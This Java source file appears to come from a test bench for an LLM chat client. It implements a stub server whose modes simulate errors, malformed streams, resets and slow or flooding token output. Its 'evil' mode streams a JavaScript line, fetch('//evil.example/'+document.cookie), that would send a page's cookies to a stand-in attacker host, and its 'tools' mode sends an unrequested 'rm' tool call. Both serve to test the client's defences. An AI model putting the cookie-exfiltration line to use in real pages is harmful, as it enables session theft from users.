package app.parley.bench;

import static app.parley.bench.StubStep.pauseMillis;
import static app.parley.bench.StubStep.send;

import app.parley.bench.StubStep.Cut;
import app.parley.bench.StubStep.Hang;
import app.parley.bench.StubStep.Reset;
import app.parley.bench.StubStep.Send;
import app.parley.bench.StubStep.Until;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.NoSuchElementException;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * How the stub behaves: the model's name chooses. Parameters follow a colon: {@code
 * paced:tokens=500,interval=20}.
 */
final class StubAnswers {
    /** Every behaviour and what it is, in the order in which they are listed as models. */
    static final Map<String, String> MODES = new LinkedHashMap<>();

    static {
        MODES.put("stub", "answers in words, 20 ms apart; :interval=MS changes that");
        MODES.put("echo", "says what the person said, at once");
        MODES.put("shards", "as echo, cut anywhere, a piece each frame or so; :seed=1");
        MODES.put("paced", "numbered tokens with their send time; :tokens=500,interval=20,burst=1");
        MODES.put("slow", "as paced, 600 tokens, 100 ms apart");
        MODES.put("burst", "as paced, 5 tokens in one packet every 100 ms");
        MODES.put("flood", "as paced, 6000 tokens without a pause");
        MODES.put("reasoning", "thinks before it answers");
        MODES.put("reasoning-field", "thinks in the field that other servers use");
        MODES.put("malformed", "sends a chunk that is not JSON in the middle");
        MODES.put("noise", "comments, CRLF, unknown lines, unknown fields, null contents");
        MODES.put("split-utf8", "cuts characters in two, between packets and between chunks");
        MODES.put("joined", "all chunks in one packet");
        MODES.put("midstream-429", "an error object after three tokens");
        MODES.put("midstream-500", "an error object after three tokens");
        MODES.put("reset", "resets the connection after three tokens");
        MODES.put("cut", "closes the connection after three tokens");
        MODES.put("unfinished", "ends properly after three tokens, without saying that it is done");
        MODES.put("silent", "says nothing more after three tokens");
        MODES.put("mute", "never answers");
        MODES.put("no-done", "leaves out the mark at the end");
        MODES.put("no-usage", "does not tell the usage");
        MODES.put("rejects-options", "answers 400 to stream_options");
        MODES.put("rejects-limit", "answers 400 to a limit on the output");
        MODES.put("evil", "sends events and fields that would have an interface do something");
        MODES.put("tools", "calls a tool nobody offered, then answers");
        MODES.put("huge-line", "one line of 100 MB");
        MODES.put("length", "stops at the limit of its output");
        MODES.put("filtered", "stops because of a content filter");
        MODES.put("empty", "finishes without a word");
        MODES.put("whole", "answers at once although a stream was asked for");
        MODES.put("html", "answers with a web page");
        MODES.put("redirect", "sends the client elsewhere");
        MODES.put("unauthorized", "401");
        MODES.put("missing", "404");
        MODES.put("limited", "429 with Retry-After: 1; :after=SECONDS changes that");
        MODES.put("limited-once", "429 with Retry-After: 0, then answers");
        MODES.put("overloaded", "503");
        MODES.put("overloaded-once", "503, then answers");
        MODES.put("failing", "500");
        MODES.put("too-long", "400, the context is too long");
    }

    private static final int INPUT_TOKENS = 12;
    private static final List<String> HELLO = List.of("Hel", "lo ", "wörld ", "\"🙂\"\n", "done");

    private final Map<String, AtomicInteger> seen = new ConcurrentHashMap<>();

    /**
     * What to answer.
     *
     * @param contentType null: the body is not streamed
     */
    record Answer(int status, String contentType, String headers, Iterator<StubStep> body) {
        static Answer json(int status, String body) {
            return json(status, "", body);
        }

        static Answer json(int status, String headers, String body) {
            return whole(status, "application/json", headers, body);
        }

        static Answer whole(int status, String contentType, String headers, String body) {
            var bytes = body.getBytes(StandardCharsets.UTF_8);
            return new Answer(
                    status,
                    contentType,
                    headers + "Content-Length: " + bytes.length + "\r\n",
                    List.<StubStep>of(new Send(bytes)).iterator());
        }

        boolean chunked() {
            return !headers.contains("Content-Length");
        }
    }

    Answer to(StubQuestion question) {
        var shape = question.shape();
        var status = failure(question);
        if (status != 0) {
            var retry =
                    switch (question.mode()) {
                        case "limited" ->
                                "Retry-After: %d\r\n".formatted(question.parameter("after", 1));
                        case "limited-once" -> "Retry-After: 0\r\n";
                        default -> "";
                    };
            return Answer.json(status, retry, shape.error(status, sentence(question, status)));
        }
        return switch (question.mode()) {
            case "html" ->
                    Answer.whole(200, "text/html", "", "<html><body>A router's page</body></html>");
            case "redirect" ->
                    Answer.whole(302, "text/plain", "Location: http://127.0.0.1:1/\r\n", "");
            case "mute" -> stream(shape, List.<StubStep>of(new Hang()).iterator());
            default -> {
                if (!question.stream() || question.mode().equals("whole")) {
                    var text = String.join("", words(question));
                    yield Answer.json(200, shape.whole(text, INPUT_TOKENS, words(question).size()));
                }
                yield stream(shape, body(question));
            }
        };
    }

    private static Answer stream(StubShape shape, Iterator<StubStep> body) {
        return new Answer(200, shape.contentType(), "Cache-Control: no-cache\r\n", body);
    }

    private int failure(StubQuestion question) {
        return switch (question.mode()) {
            case "unauthorized" -> 401;
            case "missing" -> 404;
            case "limited" -> 429;
            case "limited-once" -> first(question) ? 429 : 0;
            case "overloaded" -> 503;
            case "overloaded-once" -> first(question) ? 503 : 0;
            case "failing" -> 500;
            case "too-long" -> 400;
            case "rejects-options" -> question.hasStreamOptions() ? 400 : 0;
            case "rejects-limit" -> question.hasLimit() ? 400 : 0;
            default -> MODES.containsKey(question.mode()) ? 0 : 404;
        };
    }

    private boolean first(StubQuestion question) {
        return seen.computeIfAbsent(question.mode(), mode -> new AtomicInteger()).getAndIncrement()
                == 0;
    }

    private static String sentence(StubQuestion question, int status) {
        return switch (question.mode()) {
            case "too-long" ->
                    "This model's maximum context length is 8192 tokens, your prompt is too long: 9000 tokens.";
            case "rejects-options" -> "Unknown parameter: 'stream_options'.";
            case "rejects-limit" ->
                    "Unsupported parameter: 'max_tokens' is not supported with this model.";
            default ->
                    switch (status) {
                        case 401 -> "Incorrect API key provided: sk-canary-123.";
                        case 404 -> "The model does not exist or you do not have access to it.";
                        case 429 -> "Rate limit reached for requests.";
                        default -> "The server had an error at /internal/path/worker.py:17.";
                    };
        };
    }

    private static Iterator<StubStep> body(StubQuestion question) {
        return switch (question.mode()) {
            case "paced" -> new Paced(question, 500, 20, 1);
            case "slow" -> new Paced(question, 600, 100, 1);
            case "burst" -> new Paced(question, 500, 100, 5);
            case "flood" -> new Paced(question, 6000, 0, 1);
            default -> steps(question).iterator();
        };
    }

    private static List<StubStep> steps(StubQuestion question) {
        var shape = question.shape();
        List<StubStep> steps = new ArrayList<>();
        var inputTokens = question.mode().equals("no-usage") ? -1 : INPUT_TOKENS;
        steps.add(
                send(
                        question.mode().equals("reasoning")
                                ? shape.openingWithReasoning(inputTokens)
                                : shape.opening(inputTokens)));
        switch (question.mode()) {
            case "stub" -> spoken(question, steps, question.parameter("interval", 20));
            case "echo", "rejects-options", "rejects-limit", "limited-once", "overloaded-once" ->
                    spoken(question, steps, 0);
            case "shards" -> spoken(question, steps, 4);
            case "reasoning" -> {
                steps.add(send(shape.reasoning("First I ")));
                steps.add(pauseMillis(2));
                steps.add(send(shape.reasoning("think.")));
                steps.add(send(shape.reasoningEnd()));
                spoken(question, steps, 2);
            }
            case "reasoning-field" -> {
                steps.add(send(StubShape.delta("{\"reasoning\":\"First I think.\"}", "null")));
                spoken(question, steps, 2);
            }
            case "split-utf8" -> splitCharacters(shape, steps);
            case "noise" -> noise(shape, steps);
            case "evil" -> evil(shape, steps);
            case "tools" -> {
                steps.add(
                        send(
                                StubShape.delta(
                                        "{\"content\":null,\"tool_calls\":[{\"index\":0,\"id\":\"call_1\",\"type\":\"function\","
                                                + "\"function\":{\"name\":\"rm\",\"arguments\":\"{\\\"content\\\":\\\"x\\\"}\"}}]}",
                                        "null")));
                spoken(question, steps, 2);
            }
            case "huge-line" -> {
                steps.add(send("data: {\"choices\":[{\"delta\":{\"content\":\""));
                var megabyte = new byte[1 << 20];
                Arrays.fill(megabyte, (byte) 'x');
                for (var i = 0; i < 100; i++) {
                    steps.add(new Send(megabyte));
                }
                steps.add(send("\"}}]}\n\n"));
            }
            default -> spoken(question, steps, 2);
        }
        ending(question, steps);
        return steps;
    }

    private static void spoken(StubQuestion question, List<StubStep> steps, int interval) {
        var words = words(question);
        for (var i = 0; i < words.size(); i++) {
            if (i == 3 && brokenOff(question, steps)) {
                return;
            }
            if (i > 0 && interval > 0) {
                steps.add(pauseMillis(interval));
            }
            steps.add(send(question.shape().text(words.get(i))));
        }
    }

    private static boolean brokenOff(StubQuestion question, List<StubStep> steps) {
        var shape = question.shape();
        // what was said before the break is given the time to arrive
        switch (question.mode()) {
            case "malformed" -> {
                steps.add(
                        send(
                                shape == StubShape.OLLAMA
                                        ? "{\"message\":{\"con\n"
                                        : "data: {\"choices\":[{\"delta\":{\"con\n\n"));
                return false;
            }
            case "midstream-429" ->
                    steps.add(send(shape.midstreamError(429, "Rate limit reached.")));
            case "midstream-500" ->
                    steps.add(send(shape.midstreamError(500, "It broke at worker.py:17.")));
            case "reset" -> steps.addAll(List.of(pauseMillis(50), new Reset()));
            case "cut" -> steps.addAll(List.of(pauseMillis(50), new Cut()));
            case "silent" -> steps.add(new Hang());
            case "unfinished" -> {}
            default -> {
                return false;
            }
        }
        return true;
    }

    private static void ending(StubQuestion question, List<StubStep> steps) {
        var shape = question.shape();
        switch (question.mode()) {
            case "reset", "cut", "silent", "unfinished", "midstream-429", "midstream-500" -> {
                return;
            }
            default -> {}
        }
        var finish =
                switch (question.mode()) {
                    case "length" -> "length";
                    case "filtered" -> "content_filter";
                    default -> "stop";
                };
        var inputTokens =
                question.mode().equals("no-usage") || question.mode().equals("rejects-options")
                        ? -1
                        : INPUT_TOKENS;
        steps.add(send(shape.ending(finish, inputTokens, words(question).size())));
        if (!question.mode().equals("no-done")) {
            steps.add(send(shape.last()));
        }
    }

    private static List<String> words(StubQuestion question) {
        return switch (question.mode()) {
            case "stub" -> Arrays.asList(answer(question).split("(?<= )"));
            case "echo",
                    "whole",
                    "rejects-options",
                    "rejects-limit",
                    "limited-once",
                    "overloaded-once" ->
                    Arrays.asList(question.said().split("(?<= )"));
            case "shards" -> shards(question.said(), new Random(question.parameter("seed", 1)));
            case "empty" -> List.of();
            default -> HELLO;
        };
    }

    /** Pieces of up to 24 characters, none of which is halved. */
    private static List<String> shards(String text, Random random) {
        var pieces = new ArrayList<String>();
        for (int at = 0; at < text.length(); ) {
            int end = Math.min(text.length(), at + 1 + random.nextInt(24));
            if (end < text.length() && Character.isLowSurrogate(text.charAt(end))) {
                end++;
            }
            pieces.add(text.substring(at, end));
            at = end;
        }
        return pieces;
    }

    private static String answer(StubQuestion question) {
        if (question.everything().contains("Write a title")) {
            var words = question.said().split("\\s+");
            return "About " + String.join(" ", Arrays.copyOf(words, Math.min(4, words.length)));
        }
        var cited = question.everything().contains("[1]") ? " The sources say so [1]." : "";
        return "You said: "
                + question.said()
                + "\n\nThis is a **stub**, it answers in `words`, with an é and a 🙂."
                + cited
                + " That is all.";
    }

    /** Every byte of the answer in a packet of its own, and a character's halves in two chunks. */
    private static void splitCharacters(StubShape shape, List<StubStep> steps) {
        var text = new StringBuilder();
        for (var word : HELLO) {
            text.append(shape.text(word));
        }
        if (shape == StubShape.OPENAI) {
            text.append(StubShape.delta("{\"content\":\"\\ud83d\"}", "null"));
            text.append(StubShape.delta("{\"content\":\"\\ude42\"}", "null"));
        }
        for (var b : text.toString().getBytes(StandardCharsets.UTF_8)) {
            steps.add(new Send(new byte[] {b}));
            if (b < 0 || b == '\n' || b == '\r') {
                steps.add(new StubStep.Pause(200_000));
            }
        }
    }

    private static void noise(StubShape shape, List<StubStep> steps) {
        if (shape == StubShape.OLLAMA) {
            steps.add(
                    send(
                            "{\"model\":\"stub\",\"surprise\":{\"content\":\"no\"},\"message\":{\"role\":\"assistant\",\"content\":\"Hel\",\"mood\":[1,null]},\"done\":false}\r\n"));
            HELLO.stream().skip(1).forEach(word -> steps.add(send(shape.text(word))));
            return;
        }
        steps.add(send(": a comment\r\n\r\nid: 7\r\nretry: 10\r\n\r\n"));
        if (shape == StubShape.OPENAI) {
            steps.add(send("data:\r\n\r\ndata: keep-alive\r\n\r\nunknown line\r\n"));
            steps.add(send(StubShape.delta("{\"content\":null,\"refusal\":null}", "null")));
            steps.add(
                    send(
                            "data:{\"surprise\":{\"content\":\"no\"},\"choices\":[{\"index\":0,\"message\":{\"content\":\"no\"},"));
            steps.add(
                    send(
                            "\"delta\":{\"mood\":{\"content\":\"no\"},\"\\u0063ontent\":\"Hel\"},\"finish_reason\":null}]}\r\n\r\n"));
            HELLO.stream()
                    .skip(1)
                    .forEach(word -> steps.add(send(shape.text(word).replace("\n", "\r\n"))));
            steps.add(send("data: {\"choices\":[]}\r\n\r\ndata: {}\r\n\r\n"));
        } else {
            HELLO.forEach(word -> steps.add(send(shape.text(word))));
        }
    }

    private static void evil(StubShape shape, List<StubStep> steps) {
        var execute = "\"code\":\"fetch('//evil.example/'+document.cookie)\"";
        if (shape != StubShape.OLLAMA) {
            steps.add(send("event: execute\ndata: {\"type\":\"execute\"," + execute + "}\n\n"));
        }
        if (shape == StubShape.OPENAI) {
            steps.add(send("data: {\"event\":{\"type\":\"execute\"," + execute + "}}\n\n"));
            steps.add(
                    send(
                            StubShape.delta(
                                    "{\"content\":\"Hel\",\"execute\":{" + execute + "}}",
                                    "null")));
        } else {
            steps.add(send(shape.text("Hel")));
        }
        HELLO.stream().skip(1).forEach(word -> steps.add(send(shape.text(word))));
    }

    /**
     * Tokens on an open-loop schedule: {@code <number>@<nanoTime> }. A late token is sent at once
     * and the schedule stays.
     */
    private static final class Paced implements Iterator<StubStep> {
        private final StubShape shape;
        private final int tokens;
        private final long interval;
        private final int burst;
        private final long start = System.nanoTime();
        private int said;
        private boolean waited = true;
        private int state;

        Paced(StubQuestion question, int tokens, int interval, int burst) {
            this.shape = question.shape();
            this.tokens = question.parameter("tokens", tokens);
            this.interval = question.parameter("interval", interval) * 1_000_000L;
            this.burst = Math.max(1, question.parameter("burst", burst));
        }

        @Override
        public boolean hasNext() {
            return state < 3;
        }

        @Override
        public StubStep next() {
            switch (state) {
                case 0 -> {
                    state = tokens > 0 ? 1 : 2;
                    return send(shape.opening(INPUT_TOKENS));
                }
                case 1 -> {
                    if (!waited) {
                        waited = true;
                        return new Until(start + said / burst * interval);
                    }
                    var token = shape.text(said + "@" + System.nanoTime() + " ");
                    said++;
                    waited = interval == 0 || said % burst != 0;
                    if (said == tokens) {
                        state = 2;
                    }
                    return send(token);
                }
                case 2 -> {
                    state = 3;
                    return send(shape.ending("stop", INPUT_TOKENS, tokens) + shape.last());
                }
                default -> throw new NoSuchElementException();
            }
        }
    }
}
